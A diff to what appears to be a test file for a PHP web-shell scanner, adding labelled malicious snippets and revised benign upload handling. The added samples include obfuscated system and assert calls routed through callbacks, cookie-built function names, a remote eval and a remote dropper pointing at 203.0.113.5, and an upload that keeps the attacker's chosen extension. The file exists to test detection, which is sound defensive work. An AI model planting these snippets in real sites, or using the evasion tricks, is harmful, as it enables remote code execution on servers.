@@ -146,6 +146,22 @@ MALICIOUS = [
     ("write chosen path", "<?php file_put_contents($_GET['n'], $_POST['d']);", WRITE),
     ("fwrite script", "<?php $h = fopen('x.php', 'w'); fwrite($h, $_POST['d']);", WRITE),
     ("upload name", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);", UPLOAD),
+    (
+        "upload basename only",  # basename() strips directories, not the extension
+        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . basename($_FILES['f']['name']));",
+        UPLOAD,
+    ),
+    ("output buffer callback", "<?php $f = 'sys' . 'tem'; ob_start($f); echo $_POST['c'];", CMD),
+    ("bareword name", "<?php $f = (sy.(st).(em)); $f($_GET['c']);", CMD),
+    ("name tail completes a sink", "<?php $f = $_COOKIE['h'] . 'ert'; $f($_POST['c']);", DYN),
+    ("comparison callback", "<?php array_udiff_assoc([$_POST['c']], [1], 'assert');", CODE),
+    ("remote code", "<?php eval(file_get_contents('https://203.0.113.5/x.txt'));", CODE),
+    ("remote dropper", "<?php copy('http://203.0.113.5/s.txt', 'cache.php');", WRITE),
+    (
+        "superglobals by name",
+        "<?php foreach (['_GET', '_POST'] as $s) { foreach ($$s as $k => $v) { $k($v); } }",
+        DYN,
+    ),
     ("backticks", "<?php $c = $_GET['c']; echo `$c`;", CMD),
     ("comments inside call", "<?php eval/* a */(/* b */$_POST/* c */['p']);", CODE),
     ("elvis", "<?php $c = $_GET['c'] ?: 'id'; system($c);", CMD),
@@ -216,8 +232,15 @@ BENIGN = [
         "<?php file_put_contents('config.php', '<?php return ' . var_export($_POST['cfg'], true) . ';');",
     ),
     (
-        "upload sanitized",
-        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . basename($_FILES['f']['name']));",
+        "upload extension allow-listed",
+        "<?php $e = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));"
+        " if (!in_array($e, ['png', 'jpg'], true)) { exit; }"
+        " move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . bin2hex(random_bytes(8)) . '.' . $e);",
+    ),
+    (
+        "upload name checked by the application",
+        "<?php $n = $_FILES['f']['name']; if (!is_allowed_upload($n)) { throw new Exception('no'); }"
+        " move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . basename($n));",
     ),
     (
         "hash compare",
